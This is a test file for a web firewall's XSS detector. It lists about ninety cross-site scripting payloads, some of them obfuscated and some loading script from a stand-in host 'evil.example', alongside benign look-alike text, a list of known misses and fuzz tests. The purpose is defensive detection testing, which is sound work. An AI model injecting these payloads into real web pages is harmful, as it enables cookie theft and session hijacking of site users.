/**
 * XSS detector (issue 5, point 3) on real vectors (script tags, event handlers, javascript: URLs
 * with entity and whitespace obfuscation, svg/onload, img/onerror, iframe srcdoc, case tricks,
 * attribute break-outs, CSS expression, comment and CDATA tricks) and on benign text: prose,
 * telemetry, URLs, e-mail addresses in angle brackets, math with < and >, multilingual text.
 * Bar: >= 95% detected, <= 1% false positives; knowingly missed vectors go in knownMisses.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectXss } from '../../src/shield/waf/xss/index.ts';
import { BENIGN_TEXT } from './helpers/benign-text.ts';

const XSS_ATTACKS: string[] = [
  // script tags and case tricks
  '<script>alert(1)</script>', '<SCRIPT>alert(document.cookie)</SCRIPT>', '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>', '<script/src="data:,alert(1)">', '"><script>alert(1)</script>',
  "'><script>alert(String.fromCharCode(88,83,83))</script>", '</title><script>alert(1)</script>',
  '<script\x20type="text/javascript">javascript:alert(1);</script>', '<scr<script>ipt>alert(1)</script>',
  '<script >alert(1)</script >', '<script\n>alert(1)</script>',
  // event handlers
  '<img src=x onerror=alert(1)>', '<IMG SRC=x ONERROR=alert(1)>', '<img src="x" onerror="alert(1)">',
  '<body onload=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<div onmouseover="alert(1)">x</div>',
  '<input autofocus onfocus=alert(1)>', '<video><source onerror="alert(1)">', '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<a onclick="alert(1)">x</a>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>', '<body onpageshow=alert(1)>', '<x onpointerenter=alert(1)>hover',
  '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '" autofocus onfocus=alert(1) x="', 'x onerror=alert(1)',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>', '<img/src/onerror=alert(1)>', '<img src=x onerror\x0b=alert(1)>',
  // javascript: URLs with entity / whitespace obfuscation
  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>', '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction="javascript:alert(1)">x</button>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'javascript:alert(1)', 'javascript:alert(document.domain)', ' javascript:alert`1`', 'jav&#x0A;ascript:alert(1)',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  // iframes, objects, embeds, svg, meta, base, style
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=//evil.example>', '<object data="javascript:alert(1)">', '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">', '<style>@import "javascript:alert(1)";</style>',
  '<div style="width: expression(alert(1))">', '<div style="-moz-binding: url(http://evil.example/xss.xml#xss)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<svg><script>alert(1)</script></svg>',
  // comments and CDATA
  '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  // tag with attribute assignment
  '<a href="http://evil.example" target=_blank>win a prize</a>', '<p style="color:red">x</p>', '<x y="z">',
  // JavaScript string break-outs, split tags, injection inside a tag
  "';alert(1);//", '";alert(1);//', "'-alert(1)-'", '\\";alert(\'XSS\');//', "';(alert)(1);//", "';location=name;//",
  '<scr<script>ipt>alert(1)</scr</script>ipt>', 'x/onload=alert(1)', 'autofocus/onfocus=alert(1)//',
  // knowingly missed (see knownMisses)
  '&ltscript&gtalert(document.cookie);&ltscript&gtalert', "';d=1;alert(1)",
];
const BENIGN_HTMLISH: string[] = [
  'a < b', 'x<3', '1 < 2 > 0', '<joe@example.org>', 'Joe Smith <joe@example.org>', 'I <3 you', '<-- back', 'if (a<b && c>d) {}',
  'x<y and y=3', 'value <= 10', 'Temperature < 5 °C', 'cost: $5 < $10', 'JavaScript: The Good Parts', 'JavaScript: a guide',
  'Note: see page 3', 'time: 12:30', 'https://example.com/?a=1&b=2', 'onion rings', 'online', 'one=1', 'on=true', 'onload time is 5s',
  'The "onerror" handler is documented', 'regular expression(s) are useful', 'Call expression (a + b)', 'a=b c=d',
  'style=bold', 'href=https://example.com', 'src: camera-3', 'data:1234', 'Data: none', 'vbscript is old', 'script kiddie',
  "it's (really) good", '"Hello"; world', "Q: what's 2+2? A: 4", 'if (x == 1) { return \'a\'; }',
  'function f(a, b) { return a + b; }', "console.log('hello'); // test", 'Say "hi" and "bye"', '<<< arrows >>>', 'foo<bar', '<3 <3 <3', '2<x<5', '<b', '< b >', '<!>',
];

/** Vectors this detector does not flag, each with why; the test fails if the list is wrong. */
const knownMisses = new Set<string>([
  // Character references in text are text: a browser shows "<script>" and runs nothing. Only a
  // second decoding pass (which the engine's decoder owns, not this detector) makes it markup.
  '&ltscript&gtalert(document.cookie);&ltscript&gtalert',
  // A JS break-out whose first statement is a plain assignment and that does not end in "//":
  // matching every "';x=1;" would flag ordinary quoted key=value text.
  "';d=1;alert(1)",
]);

describe('detectXss', () => {
  const benign = [...BENIGN_TEXT, ...BENIGN_HTMLISH];

  it('has enough real samples', () => {
    expect(XSS_ATTACKS.length).toBeGreaterThanOrEqual(60);
    expect(benign.length).toBeGreaterThanOrEqual(100);
  });

  it.each(XSS_ATTACKS.filter((s) => !knownMisses.has(s)))('detects %s', (s) => {
    const r = detectXss(s);
    expect(r.detected).toBe(true);
    expect(r.fingerprint).toMatch(/^(tag|attr|url|css|js):[a-z0-9:+-]+$|^(comment|cdata|doctype)$/);
  });

  it('misses only the known misses, and detects >= 95%', () => {
    const missed = XSS_ATTACKS.filter((s) => !detectXss(s).detected);
    expect(missed.sort()).toEqual([...knownMisses].sort());
    expect(1 - missed.length / XSS_ATTACKS.length).toBeGreaterThanOrEqual(0.95);
  });

  it.each(benign)('does not flag %s', (s) => {
    expect(detectXss(s)).toEqual({ detected: false });
  });

  it('names what it found', () => {
    expect(detectXss('<script>alert(1)</script>').fingerprint).toBe('tag:script');
    expect(detectXss('<img src=x onerror=alert(1)>').fingerprint).toBe('attr:onerror');
    expect(detectXss('<a href="jav&#x09;ascript:alert(1)">x</a>').fingerprint).toBe('url:javascript');
    expect(detectXss('" onmouseover="alert(1)').fingerprint).toBe('attr:onmouseover');
  });

  it('never throws and stays bounded on arbitrary strings', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (s) => {
        expect(typeof detectXss(s).detected).toBe('boolean');
      }),
      { numRuns: 2000 },
    );
    fc.assert(
      fc.property(fc.array(fc.constantFrom('<', '>', '/', '"', "'", '`', '=', ' ', 'a', 'script', 'on', 'onerror', 'href', 'javascript:', '&#', 'x;', '<!--', '-->', '<![CDATA['), { maxLength: 60 }), (parts) => {
        expect(typeof detectXss(parts.join('')).detected).toBe('boolean');
      }),
      { numRuns: 2000 },
    );
  });

  it('handles 1 MB inputs', () => {
    const mb = 1 << 20;
    const inputs = ['<a '.repeat(mb / 3), '<'.repeat(mb), '="'.repeat(mb / 2), '<!--'.repeat(mb / 4), 'x=y '.repeat(mb / 4), '&#'.repeat(mb / 2),
      'on'.repeat(mb / 2) + '=', '<a b="'.repeat(mb / 6), 'javascript:'.repeat(mb / 11), '<!--<a '.repeat(mb / 7)];
    for (const s of inputs) expect(typeof detectXss(s).detected).toBe('boolean');
    expect(detectXss('<b>'.repeat(1000) + '<script>alert(1)</script>').detected).toBe(true);
  });
});
